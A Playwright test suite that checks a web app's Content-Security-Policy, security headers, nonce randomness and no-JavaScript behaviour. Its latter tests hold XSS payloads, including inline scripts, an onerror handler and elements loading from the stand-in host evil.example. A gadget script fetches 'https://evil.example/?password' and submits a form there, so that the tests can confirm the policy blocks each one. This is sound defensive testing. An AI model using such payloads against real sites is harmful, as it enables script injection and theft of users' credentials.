import { createHash } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page, type Server } from "../fixtures";
import { complaintsOf, isComplaint, openAlive } from "../support/console-errors";
import { recordOf, sealedSession, send } from "../support/http";
import { addPerson } from "../support/users";
import { membersPages, openPages } from "../support/routes";

const policyOf = (response: Response): string =>
  response.headers.get("content-security-policy") ?? "";

const answers: readonly (readonly [
  what: string,
  path: string,
  status: number,
  init?: RequestInit,
])[] = [
  ["the home page", "/", 200],
  [
    "a page asked for by a program",
    "/",
    200,
    { headers: { accept: "*/*", "user-agent": "Googlebot" } },
  ],
  ["the beginning of a page", "/login", 200, { method: "HEAD" }],
  ["a page that is sent whole", "/login", 200, { headers: { cookie: "__Host-noscript=1" } }],
  ["a soft navigation", "/login?_rsc", 200, { headers: { rsc: "1" } }],
  ["a redirect by the guard", "/account", 307],
  ["a page that does not exist", "/nowhere", 404],
  ["a page that does not exist and looks like a file", "/nowhere.html", 404],
  ["an address that nothing can be made of", "/%", 404],
  ["a method that pages do not know", "/login", 405, { method: "PUT" }],
  [
    "an action that does not exist",
    "/login",
    400,
    { method: "POST", headers: { "next-action": "40abc", "content-type": "text/plain" } },
  ],
  ["a handler", "/api/session", 200],
  ["a handler that refuses", "/api/login", 400, { method: "POST", body: "not JSON" }],
  ["a handler asked in the wrong way", "/api/session", 405, { method: "PUT" }],
  ["a handler that does not exist", "/api/nowhere", 404],
  ["a picture", "/icon.svg", 200],
  ["a picture that does not exist", "/nowhere.png", 404],
  ["the stylesheet for browsers without JavaScript", "/assets/noscript.css", 200],
  ["a script that does not exist", "/_next/static/nowhere.js", 404],
];

for (const [what, path, status, init] of answers) {
  test(`${what} tells the browser what it may do with it`, async ({ server }) => {
    const response = await send(server, path, init);
    expect(response.status).toBe(status);
    const directives = policyOf(response).split("; ");
    for (const directive of ["default-src", "object-src", "base-uri", "frame-ancestors"]) {
      expect(directives).toContain(`${directive} 'none'`);
    }
    expect(directives).toContain("form-action 'self'");
    // A second policy would come after a comma, and only what both allow is allowed.
    expect(policyOf(response)).not.toMatch(/,|unsafe|\*|https?:|undefined/);
    expect(response.headers.get("strict-transport-security")).toBe(
      "max-age=63072000; includeSubDomains",
    );
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
    expect(response.headers.get("cross-origin-opener-policy")).toBe("same-origin");
  });
}

/** The scripts of a page that its own policy lets nobody run: neither a file of ours, nor with the nonce, nor known. */
function unknownScripts(html: string, policy: string): string[] {
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "there is none";
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
  expect(scripts.length).toBeGreaterThan(5);
  return scripts
    .filter(([, attributes = "", text = ""]) => {
      if (attributes.includes(`nonce="${nonce}"`)) return false;
      if (!text) return !attributes.includes('src="/_next/static/');
      return !policy.includes(createHash("sha256").update(text).digest("base64"));
    })
    .map(([script]) => script);
}

test("every script of every page is known to the page's policy, streamed in or whole", async ({
  server,
}) => {
  const member = {
    cookie: await sealedSession(server, recordOf(await addPerson(server.databaseUrl, "Eve"))),
  };
  const whole = { cookie: "__Host-noscript=1" };
  for (const path of [...openPages, ...membersPages, "/nowhere"]) {
    for (const headers of [{}, whole, member]) {
      const response = await fetch(new URL(path, server.origin), { headers });
      expect(unknownScripts(await response.text(), policyOf(response)), path).toEqual([]);
    }
  }
});

test("a page still begins with a shell that was made for everybody, before there was this visitor's nonce", async ({
  server,
}) => {
  for (const path of openPages) {
    const response = await send(server, path);
    const text = await response.text();
    const nonce = /'nonce-([^']+)'/.exec(policyOf(response))?.[1] ?? "no nonce";
    expect(text.indexOf(nonce), path).toBeGreaterThan(text.indexOf("</footer>"));
    expect(text.indexOf("</footer>"), path).toBeGreaterThan(0);
  }
});

test("a nonce is 128 bits, never the same, and never chosen by who asks", async ({ server }) => {
  const chosen = "script-src 'nonce-chosen'";
  const nonces = new Set<string>();
  for (let times = 0; times < 20; times++) {
    const response = await send(server, "/login", {
      headers: { "content-security-policy": chosen },
    });
    const nonce = /'nonce-([A-Za-z0-9+/]{22}==)'/.exec(policyOf(response))?.[1];
    expect(nonce).toBeDefined();
    nonces.add(nonce ?? "");
    expect(await response.text()).not.toContain("chosen");
  }
  expect(nonces.size).toBe(20);
});

test("a guest's way through the site is free of complaints, and every page comes alive", async ({
  page,
}) => {
  const complaints = await complaintsOf(page);
  for (const path of [...openPages, "/login?next=%2Faccount", "/nowhere", "/nowhere.html"]) {
    await openAlive(page, path);
    expect(complaints, path).toEqual([]);
  }
  await page.getByRole("link", { name: "Home page" }).click();
  await page.getByRole("link", { name: "Sign up" }).click();
  await page.getByRole("button", { name: "Sign up" }).click();
  await expect(page.getByText("Tell us what to call you.")).toBeVisible();
  await page.goBack();
  await page.reload();
  await page.goForward();
  await expect(page.getByRole("button", { name: "Sign up" })).toBeVisible();
  expect(complaints).toEqual([]);
});

test("a member's is, too", async ({ page, loggedInAs }) => {
  const { name } = await loggedInAs("Fay");
  const complaints = await complaintsOf(page);
  for (const path of [...openPages, ...membersPages]) await openAlive(page, path);
  await page.goto("/account");
  await page.getByLabel("Name").fill(`${name} the Second`);
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.locator("[data-flash]")).toBeVisible();
  await page.getByRole("link", { name: "Log out" }).click();
  await page.getByRole("button", { name: "Log out" }).click();
  await expect(page.getByText("You are not logged in.")).toBeVisible();
  expect(complaints).toEqual([]);
});

test.describe("without JavaScript", () => {
  test.use({ javaScriptEnabled: false });

  test("pages are as they should be, styled and with their forms, at the first visit and after", async ({
    page,
  }) => {
    const complaints: string[] = [];
    page.on("console", (message) => {
      if (isComplaint(message)) complaints.push(message.text());
    });
    for (const path of [...openPages, "/signup"]) await page.goto(path);
    await page.getByRole("button", { name: "Sign up" }).click();
    await expect(page.getByText("Tell us what to call you.")).toBeVisible();
    expect(complaints).toEqual([]);
  });
});

/** What somebody might get into a page by an error of ours. Each would set a `title` of its own, if it ran. */
const injections: readonly (readonly [what: string, html: string, refusedBy: string])[] = [
  ["an inline script", `<script>document.title="pwned"</script>`, "script-src-elem"],
  [
    "a script with an old nonce",
    `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">document.title="pwned"</script>`,
    "script-src-elem",
  ],
  [
    "a script from elsewhere",
    `<script src="https://evil.example/pwn.js"></script>`,
    "script-src-elem",
  ],
  [
    "a script in its own address",
    `<script src="data:text/javascript,document.title='pwned'"></script>`,
    "script-src-elem",
  ],
  [
    "a handler in an attribute",
    `<img src="/nowhere.svg" onerror="document.title='pwned'">`,
    "script-src-attr",
  ],
  [
    "a style in an attribute",
    `<p style="position:fixed;inset:0">Log in here</p>`,
    "style-src-attr",
  ],
  [
    "a stylesheet from elsewhere",
    `<link rel="stylesheet" href="https://evil.example/pwn.css">`,
    "style-src-elem",
  ],
  ["a picture that reports who looks", `<img src="https://evil.example/seen.gif">`, "img-src"],
  ["another base for our addresses", `<base href="https://evil.example/">`, "base-uri"],
  ["a page in the page", `<iframe src="https://evil.example/"></iframe>`, "frame-src"],
  ["a plug-in", `<object data="https://evil.example/pwn"></object>`, "object-src"],
];

async function openWith(page: Page, server: Server, html: string): Promise<void> {
  await page.route(`${server.origin}/login`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: (await response.text()).replace("</main>", `${html}</main>`),
    });
  });
  await page.goto("/login");
}

for (const [what, html, refusedBy] of injections) {
  test(`${what} that got into a page is refused`, async ({ page, server }) => {
    const complaints = await complaintsOf(page);
    await page.route("https://evil.example/**", () => complaints.push("it was asked for"));
    await openWith(page, server, html);
    await expect.poll(() => complaints.join()).toContain(refusedBy);
    expect(complaints).not.toContain("it was asked for");
    await expect(page).toHaveTitle("Log in · Signet");
  });
}

/** What a script of ours might be talked into. It runs as a file of this site does. */
const gadget = `
  const attempt = (name, work) => work().then(() => complain(name + " worked"), () => complain(name + " was refused"));
  attempt("eval", async () => eval("1"));
  attempt("Function", async () => new Function("return 1")());
  attempt("fetch", () => fetch("https://evil.example/?password"));
  Object.assign(document.createElement("a"), { href: "javascript:complain('javascript: worked')" }).click();
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
  document.body.append(form);
  form.submit();
`;

test("text is never run and a password never sent elsewhere, whatever a script of ours is talked into", async ({
  page,
}) => {
  const complaints = await complaintsOf(page);
  await page.route("https://evil.example/**", () => complaints.push("it was asked for"));
  await page.route("/gadget.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: gadget }),
  );
  await page.goto("/login");
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement("script"), { src: "/gadget.js" })),
  );
  const refusals = [
    "eval was refused",
    "Function was refused",
    "fetch was refused",
    "script-src-elem inline",
    "form-action",
  ];
  for (const refusal of refusals) await expect.poll(() => complaints.join("\n")).toContain(refusal);
  expect(complaints.join("\n")).not.toMatch(/worked|it was asked for/);
});

test("no other site can put a page of ours in a frame", async ({ page, server }) => {
  const ours = `${server.origin}/login`;
  const evil = createServer((_, response) =>
    response.end(`<!doctype html><iframe src="${ours}"></iframe>`),
  );
  await once(evil.listen(0, "127.0.0.1"), "listening");
  const refused = page.waitForEvent("requestfailed", (request) => request.url() === ours);
  await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
  expect((await refused).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
  evil.close();
});
